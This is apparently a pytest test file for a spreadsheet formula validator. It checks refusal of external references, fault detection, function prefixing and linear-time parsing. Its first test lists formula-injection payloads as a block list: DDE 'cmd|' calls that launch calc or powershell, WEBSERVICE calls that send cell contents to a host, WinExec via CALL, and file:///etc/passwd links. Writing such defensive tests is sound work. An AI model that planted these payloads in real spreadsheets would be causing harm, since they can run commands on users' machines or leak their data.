from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from forgeapp.domain import formulas
from forgeapp.domain.formulas import computes_arrays, fault, file_formula, refusal, tokens, yields_arrays
from tests.pace import assert_linear, repeated


@pytest.mark.security
@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/c calc'!A0",
        "=cmd|'/C powershell -e x'!'A1'",
        "='cmd'|'/c calc'!A0",
        "='cmd|/c calc'!A0",
        "=1+MSEXCEL|'\\..\\..\\cmd.exe'!A0",
        '=WEBSERVICE("http://x/?"&A1)',
        '=webservice ("http://x")',
        '=_xlfn.WEBSERVICE("http://x")',
        "=MAP(A1:A3,WEBSERVICE)",
        '=IMAGE("http://x/p.png")',
        '=IMPORTXML("http://x","//a")',
        '=IMPORTDATA("http://x")',
        '=RTD("prog",,"topic")',
        '=DDE("soffice","x","y")',
        '=CALL("kernel32","WinExec","JCJ","calc",0)',
        '=REGISTER.ID("a","b")',
        '=EXEC("calc")',
        "=[Book.xlsx]Sheet1!A1",
        "=[1]Sheet1!A1",
        "='[Book.xlsx]Sheet 1'!A1",
        "='C:\\temp\\[Book.xlsx]S'!A1",
        "='\\\\server\\share\\[b.xlsx]S'!A1",
        "=\\\\server\\share!A1",
        "='file:///etc/passwd'#$Sheet1.A1",
        "=Book.xlsx!Name",
        '=HYPERLINK("file:///etc/passwd","x")',
        '=HYPERLINK("\\\\server\\x","x")',
        '=HYPERLINK("javascript:alert(1)")',
        '=HYPERLINK(A1,"open")',
        '=HYPERLINK("ht"&"tp://x")',
        "=INDIRECT(\"'[b.xlsx]S'!A\"&1)",
        '=ＷＥＢＳＥＲＶＩＣＥ("x")',
        '=org.openoffice.webservice("x")',
        "=EVALUATE(A1)",
    ],
)
def test_what_reaches_out_of_the_workbook_is_refused(formula: str) -> None:
    assert refusal(formula)


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(A1:B7)*2",
        '="a|b"&A1',
        '="WEBSERVICE(1) [Book.xlsx]S!A1 cmd|x"',
        '=HYPERLINK("https://example.org/"&A1,"open")',
        '=HYPERLINK("mailto:a@b.c")',
        '=HYPERLINK("#Sheet2!A1","there")',
        "=Image!A1+Call!B2",
        "='It''s 5 %'!A1/'Other'!B2",
        "=SUM(RTD:RTD)+RTD1",
        "=A1/B1:B3",
        "=Table1[[#All],[Price]]*2",
        "=[@Price]*2",
        '=IF(A1="http://x/[y]","WEBSERVICE",1)',
    ],
)
def test_what_stays_inside_is_not_refused(formula: str) -> None:
    assert refusal(formula) is None


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(1,",
        "=1+",
        "=SUM(1;2)",
        "=1 2",
        "=)",
        "=(1",
        "={1,2",
        "=1..2",
        "=2x",
        "=A1**2",
        "=()",
        "={}",
        "='a'",
        "=",
        "=A1:",
        "=Table1[a]",
        "=,",
        "=(,)",
        "=!A1",
        '="a',
        "='a",
        "=A1#REF",
        "=\x00",
        "=" + "(" * 100 + "1" + ")" * 100,
        "=1" + "+1" * 4_096,
        "=1\ud800",
        '="' + "x" * 256 + '"',
        "=SUM(1" + ",1" * 255 + ")",
    ],
)
def test_what_no_spreadsheet_can_read_has_a_fault(formula: str) -> None:
    assert fault(formula)


@pytest.mark.parametrize(
    "formula",
    [
        *[
            "=SUM(A1:A3)",
            '="' + '""' * 255 + '"',
            "=SUM(1" + ",1" * 254 + ")",
            "=SUM({" + "1," * 400 + "1})",
            "={1,2;3,4}",
            "=A1#",
            "=IF(1,,2)",
            "=SUM()",
            "=F(,)",
            "=--A1",
            "=5%%*2",
            "=LAMBDA(x,x+1)(2)",
            "=(A1,B1)",
            "=@A1",
            "=$A$1:$B$2",
            "=1:3",
            "=Sheet1:Sheet3!A1",
            "=#REF!+1",
            "=A1<>B1",
            "={-1,TRUE}",
            "=1E-5",
            "=.5",
            "=ä+1",
            "=A1:B2 B1:C3",
        ],
        "='It''s a'!A1+1",
        '="say ""hi"" (" & A1',
        "= 1 +\n 2",
        "=" + "IF(1," * 60 + "1" + ")" * 60,
        "=1" + "+1" * 4_000,
    ],
)
def test_what_a_spreadsheet_reads_has_no_fault(formula: str) -> None:
    assert fault(formula) is None


@pytest.mark.parametrize(
    ("formula", "spelled"),
    [
        ("=SUM(A1:A3)", "=SUM(A1:A3)"),
        ("=XLOOKUP(1,A:A,B:B)", "=_xlfn.XLOOKUP(1,A:A,B:B)"),
        ("=sort(FILTER(A1:A3,B1:B3>1))", "=_xlfn._xlws.sort(_xlfn._xlws.FILTER(A1:A3,B1:B3>1))"),
        ('=TEXTJOIN("SORT(",1,"XLOOKUP(")', '=_xlfn.TEXTJOIN("SORT(",1,"XLOOKUP(")'),
        ("=LET(x,2,y,x*3,x+y)", "=_xlfn.LET(_xlpm.x,2,_xlpm.y,_xlpm.x*3,_xlpm.x+_xlpm.y)"),
        ("=LET(f,LAMBDA(n,n*2),f(3))", "=_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.n,_xlpm.n*2),_xlpm.f(3))"),
        ("=LET(A,1,A+B1)", "=_xlfn.LET(_xlpm.A,1,_xlpm.A+B1)"),
        ("=SUM(A1#)", "=SUM(_xlfn.ANCHORARRAY(A1))"),
        ("='a b'!A1#*2", "=_xlfn.ANCHORARRAY('a b'!A1)*2"),
        ("=@A1+1", "=A1+1"),
        ("=STDEV.S(A1:A3)+MAXIFS(A:A,B:B,1)", "=_xlfn.STDEV.S(A1:A3)+_xlfn.MAXIFS(A:A,B:B,1)"),
        ("=_xlfn.CONCAT(A1)", "=_xlfn.CONCAT(A1)"),
        ("=IFS (A1>1,2)", "=_xlfn.IFS (A1>1,2)"),
    ],
)
def test_new_functions_are_spelled_as_files_have_them(formula: str, spelled: str) -> None:
    assert file_formula(formula).text == spelled
    assert file_formula(spelled).text == spelled


@pytest.mark.parametrize(
    "formula", ["=SUM(A1:A3*B1:B3)", "=A1:A3*2", "=SUM(LEN(A1:A3))", "=SUM({1,2}*3)", "=2*S!A1:B2"]
)
def test_formulas_that_compute_with_whole_ranges_are_marked(formula: str) -> None:
    assert computes_arrays(formula)
    assert file_formula(formula).is_dynamic


@pytest.mark.parametrize(
    "formula",
    ["=SUM(A1:A3)*2", "=COUNTIF(A1:A3,1)/2", "=IF(SUM(A1:A3)>1,2,3)", "=SUM(S!A1:A3)/2", "=A1*2", "=MAX({1,2})"],
)
def test_formulas_of_single_values_are_not_marked(formula: str) -> None:
    assert not file_formula(formula).is_dynamic


@given(st.text(alphabet="ABZ19$#@!:'\"()[]{},;|\\/*+-. \n_xlLETSORT", max_size=60))
def test_tokens_are_the_formula_and_nothing_crashes(text: str) -> None:
    formula = "=" + text
    assert "=" + "".join(token.text for token in tokens(formula)) == formula
    refusal(formula)
    fault(formula)
    file_formula(formula)


@given(st.text(max_size=30))
def test_a_string_is_never_looked_into(text: str) -> None:
    formula = '="{}"&A1'.format(text.replace('"', '""'))
    assert refusal(formula) is None
    assert file_formula(formula).text == formula


@pytest.mark.parametrize(
    "part", ['"', "'", "[", "[[x]", "(", "LET(", "{", "a.", "_xlfn.", "#", "|(", "[a", "A1:", "SUM(A"]
)
def test_hostile_formulas_take_linear_time(part: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(formulas, "MAX_FORMULA_CHARS", 20_000)

    def read(formula: str) -> None:
        for kept in (formulas._refusal, formulas._fault, formulas._computes_arrays):
            kept.cache_clear()
        refusal(formula)
        fault(formula)
        file_formula(formula)

    assert_linear(read, repeated(part, "="), 16_000)


@pytest.mark.parametrize("formula", ["=SORT(A1:A3)", "=_xlfn._xlws.SORT(A1:A3)", "=1+_xlfn.UNIQUE (A1:A3)"])
def test_functions_that_give_arrays_are_known_with_their_prefixes_too(formula: str) -> None:
    assert yields_arrays(formula)


@pytest.mark.parametrize("formula", ["=TRANSPOSE(A1:A3)", "=MMULT(A1:B2,C1:D2)", "=FREQUENCY(A1:A9,B1:B3)"])
def test_old_functions_that_give_arrays_are_written_as_arrays(formula: str) -> None:
    assert (file_formula(formula).text, file_formula(formula).is_dynamic) == (formula, True)
